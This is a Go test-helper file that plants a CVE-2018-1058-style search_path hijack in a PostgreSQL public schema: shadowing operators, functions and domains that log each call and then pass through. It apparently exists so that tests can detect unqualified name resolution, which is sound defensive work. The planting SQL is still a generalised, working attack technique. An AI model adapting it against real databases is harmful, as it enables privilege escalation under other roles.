package pgtest

import (
	"context"
	"database/sql"
	"testing"
)

// Hijack is an attacker's plants in a database's public schema (the
// CVE-2018-1058 class): objects that an unqualified operator, function or
// type name in someone else's statement may resolve to instead of
// pg_catalog's, so that the attacker's code runs as that statement's role.
// Every planted object records its call in a sequence (not undone by a
// rollback) and a log table, then does what pg_catalog's would, so that
// the victim's statements go on as if nothing happened.
//
// Planted: for the operators HijackOps, one for every pair of simple
// built-in types (text, varchar, name, bpchar, "char", bool, the integers,
// numeric, float8, oid) that pg_catalog's operator accepts, exactly or
// through casts: a pair pg_catalog has exactly is a same-signature copy (it
// wins when search_path lists public before pg_catalog), any other an exact
// match that beats pg_catalog's coerced one whatever the order (the
// published attack: varchar = varchar); for the functions HijackFuncs,
// same-signature copies and variants taking varchar or bpchar where
// pg_catalog's takes text or name; and domains public.text, int8, int4,
// oid, name, bool, regclass, whose CHECK runs the attacker's code on every
// cast to them.
type Hijack struct {
	db *sql.DB
}

// HijackOps are the operators Plant overloads.
var HijackOps = []string{"=", "<>", "<", "<=", ">", ">=", "+", "-", "||", "~~"}

// HijackFuncs are the functions Plant overloads (every pg_catalog function
// of the name that returns one value of a simple type or void).
var HijackFuncs = []string{
	"pg_advisory_lock", "pg_try_advisory_lock", "pg_advisory_unlock", "pg_advisory_unlock_all",
	"pg_backend_pid", "to_regclass", "quote_ident", "current_schema", "current_database",
	"octet_length", "length", "lower", "now", "textcat", "texteq", "int8", "int4", "text",
}

// hijackSQL is run by the attacker, with pg_catalog first on its own path.
const hijackSQL = `
SET search_path = pg_catalog;
CREATE SEQUENCE public.zkr_hits;
GRANT USAGE, SELECT ON SEQUENCE public.zkr_hits TO PUBLIC;
CREATE TABLE public.zkr_hit_log (what text, who text);
GRANT INSERT ON public.zkr_hit_log TO PUBLIC;
CREATE FUNCTION public.zkr_hit(what text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
BEGIN
  PERFORM pg_catalog.nextval('public.zkr_hits');
  INSERT INTO public.zkr_hit_log VALUES (what, current_user);
  RETURN true;
END $f$;
GRANT EXECUTE ON FUNCTION public.zkr_hit(text) TO PUBLIC;
DO $do$
DECLARE
  simple regtype[] := ARRAY['text', 'varchar', 'name', 'bpchar', '"char"', 'bool', 'int2', 'int4', 'int8', 'numeric', 'float8', 'oid'];
  o record; l text; op text; lt regtype; rt regtype; res regtype; i int := 0; body text;
BEGIN
  FOREACH op IN ARRAY string_to_array(current_setting('zkr.ops'), ' ') LOOP
    FOREACH lt IN ARRAY simple LOOP
      FOREACH rt IN ARRAY simple LOOP
        BEGIN
          EXECUTE format('SELECT pg_catalog.pg_typeof(NULL::%s OPERATOR(pg_catalog.%s) NULL::%s)', lt, op, rt) INTO res;
        EXCEPTION WHEN others THEN
          CONTINUE; -- pg_catalog has no such operator, not even through casts
        END;
        i := i + 1;
        EXECUTE format('CREATE FUNCTION public.zkr_op_%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS $b$BEGIN PERFORM public.zkr_hit(%L); RETURN $1 OPERATOR(pg_catalog.%s) $2; END$b$',
          i, lt, rt, res, format('operator %s(%s, %s)', op, lt, rt), op);
        -- CREATE OPERATOR reads "character varying" as character: name types by their typname.
        -- CREATE OPERATOR reads "character varying" as character: name types by their typname.
        EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = pg_catalog.%I, RIGHTARG = pg_catalog.%I, FUNCTION = public.zkr_op_%s)',
          op, (SELECT typname FROM pg_type WHERE oid = lt), (SELECT typname FROM pg_type WHERE oid = rt), i);
      END LOOP;
    END LOOP;
  END LOOP;
  FOR o IN SELECT p.proname AS name, pg_get_function_identity_arguments(p.oid) AS args, p.prorettype::regtype AS res, p.pronargs AS n
      FROM pg_proc p WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND NOT p.proretset
       AND p.proname = ANY (string_to_array(current_setting('zkr.funcs'), ' '))
       AND (p.prorettype = 'void'::regtype OR p.prorettype = ANY (simple) OR p.prorettype IN ('regclass'::regtype, 'timestamptz'::regtype))
       AND NOT EXISTS (SELECT FROM unnest(p.proargtypes) t WHERE t <> ALL (simple)) LOOP
    FOREACH l IN ARRAY ARRAY[o.args, CASE WHEN o.args ~ '\m(text|name)\M' THEN regexp_replace(o.args, '\m(text|name)\M', 'varchar', 'g') END,
        CASE WHEN o.args ~ '\m(text|name)\M' THEN regexp_replace(o.args, '\m(text|name)\M', 'bpchar', 'g') END] LOOP
      CONTINUE WHEN l IS NULL OR to_regprocedure(format('public.%I(%s)', o.name, l)) IS NOT NULL;
      body := format('pg_catalog.%I(%s)', o.name, (SELECT string_agg('$' || k, ', ') FROM generate_series(1, o.n) k));
      body := CASE WHEN o.res = 'void'::regtype THEN format('PERFORM %s; RETURN;', body) ELSE format('RETURN %s;', body) END;
      EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS $b$BEGIN PERFORM public.zkr_hit(%L); %s END$b$',
        o.name, l, o.res, format('function %s(%s)', o.name, l), body);
    END LOOP;
  END LOOP;
END $do$;
CREATE FUNCTION public.aclexplode(acl aclitem[], OUT grantor oid, OUT grantee oid, OUT privilege_type text, OUT is_grantable boolean)
  RETURNS SETOF record LANGUAGE sql AS $f$SELECT * FROM pg_catalog.aclexplode(acl) WHERE public.zkr_hit('function aclexplode')$f$;
CREATE DOMAIN public.text AS pg_catalog.text CHECK (public.zkr_hit('domain text'));
CREATE DOMAIN public.int8 AS pg_catalog.int8 CHECK (public.zkr_hit('domain int8'));
CREATE DOMAIN public.int4 AS pg_catalog.int4 CHECK (public.zkr_hit('domain int4'));
CREATE DOMAIN public.oid AS pg_catalog.oid CHECK (public.zkr_hit('domain oid'));
CREATE DOMAIN public.name AS pg_catalog.name CHECK (public.zkr_hit('domain name'));
CREATE DOMAIN public.bool AS pg_catalog.bool CHECK (public.zkr_hit('domain bool'));
CREATE DOMAIN public.regclass AS pg_catalog.regclass CHECK (public.zkr_hit('domain regclass'));
`

// PlantHijack plants the Hijack as the role of dsn (an ordinary role with
// CREATE on the database's public schema) and returns it. The handle is
// closed at the test's cleanup.
func PlantHijack(tb testing.TB, dsn string) *Hijack {
	tb.Helper()
	db, err := sql.Open("pgx", dsn)
	if err != nil {
		tb.Fatalf("pgtest: %v", err)
	}
	db.SetMaxOpenConns(1) // one session: the settings below stick
	tb.Cleanup(func() { db.Close() })
	ctx, cancel := context.WithTimeout(context.Background(), readyTimeout)
	defer cancel()
	ops, funcs := "", ""
	for _, o := range HijackOps {
		ops += " " + o
	}
	for _, f := range HijackFuncs {
		funcs += " " + f
	}
	if _, err := db.ExecContext(ctx, "SELECT pg_catalog.set_config('zkr.ops', $1, false), pg_catalog.set_config('zkr.funcs', $2, false)", ops[1:], funcs[1:]); err != nil {
		tb.Fatalf("pgtest: hijack settings: %v", err)
	}
	if _, err := db.ExecContext(ctx, hijackSQL); err != nil {
		tb.Fatalf("pgtest: planting the hijack: %v", err)
	}
	return &Hijack{db: db}
}

// Hits returns how many times a planted object ran, and the names of those
// whose call was committed (a call in a transaction rolled back is counted
// but not named).
func (h *Hijack) Hits(tb testing.TB) (int64, []string) {
	tb.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), readyTimeout)
	defer cancel()
	var n int64
	var called bool
	if err := h.db.QueryRowContext(ctx, "SELECT last_value, is_called FROM public.zkr_hits").Scan(&n, &called); err != nil {
		tb.Fatalf("pgtest: reading the hijack's count: %v", err)
	}
	if !called {
		n = 0
	}
	rows, err := h.db.QueryContext(ctx, "SELECT DISTINCT what || ' as ' || who FROM public.zkr_hit_log ORDER BY 1")
	if err != nil {
		tb.Fatalf("pgtest: reading the hijack's log: %v", err)
	}
	defer rows.Close()
	var what []string
	for rows.Next() {
		var s string
		if err := rows.Scan(&s); err != nil {
			tb.Fatalf("pgtest: %v", err)
		}
		what = append(what, s)
	}
	return n, what
}

// Count returns how many planted objects there are (a check that the
// plants took).
func (h *Hijack) Count(tb testing.TB) int {
	tb.Helper()
	var n int
	err := h.db.QueryRowContext(context.Background(), `SELECT (SELECT count(*) FROM pg_catalog.pg_operator WHERE oprnamespace = 'public'::regnamespace)
 + (SELECT count(*) FROM pg_catalog.pg_proc WHERE pronamespace = 'public'::regnamespace)`).Scan(&n)
	if err != nil {
		tb.Fatalf("pgtest: %v", err)
	}
	return n
}
